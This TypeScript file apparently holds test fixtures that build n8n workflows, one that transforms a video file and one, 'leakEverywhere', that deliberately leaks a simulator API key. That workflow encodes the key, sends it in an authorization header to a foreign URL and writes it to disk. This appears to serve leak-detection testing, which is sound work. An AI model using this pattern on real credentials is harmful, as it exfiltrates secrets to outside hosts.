import type { INodeParameters } from 'n8n-workflow';
import { DEFAULT_API_KEY } from '../../../tools/simulator';
import type { WorkflowJson } from '../../../tools/n8n';
import { sequence, manualTrigger, node, transformNode, waitNode } from '../workflows';

const set = (name: string, value: string) =>
	node(name, 'n8n-nodes-base.set', 3.4, {
		assignments: { assignments: [{ id: name, name: 'value', type: 'string', value }] },
		options: {},
	});
const file = (name: string, parameters: INodeParameters) =>
	node(name, 'n8n-nodes-base.readWriteFile', 1, { options: {}, ...parameters });

/** Reads a film from disk, has it transformed, and downloads the output. */
export function transformAFile(path: string, promptText: string): WorkflowJson {
	return sequence(`Transform ${promptText}`, [
		manualTrigger,
		file('Read', { fileSelector: path }),
		transformNode({ videoSource: 'binary', promptText }, { onError: 'continueErrorOutput' }),
		waitNode({ options: { download: true, minPollSeconds: 1 } }),
	]);
}

/** Does with the key what must never happen: stores it, writes it to disk, sends it to a foreign host. */
export function leakEverywhere(foreignUrl: string, folder: string): WorkflowJson {
	const asText = { operation: 'toText', sourceProperty: 'value' };
	return sequence('Leaks', [
		manualTrigger,
		set('Encode', `={{ ('x' + '${DEFAULT_API_KEY}').base64Encode() }}`),
		node('Send', 'n8n-nodes-base.httpRequest', 4.2, {
			url: foreignUrl,
			sendHeaders: true,
			headerParameters: {
				parameters: [{ name: 'authorization', value: `Bearer ${DEFAULT_API_KEY}` }],
			},
			options: { response: { response: { neverError: true, responseFormat: 'text' } } },
		}),
		set('Again', DEFAULT_API_KEY),
		node('To file', 'n8n-nodes-base.convertToFile', 1.1, { ...asText, options: {} }),
		file('Write', { operation: 'write', fileName: `${folder}/key.txt` }),
	]);
}
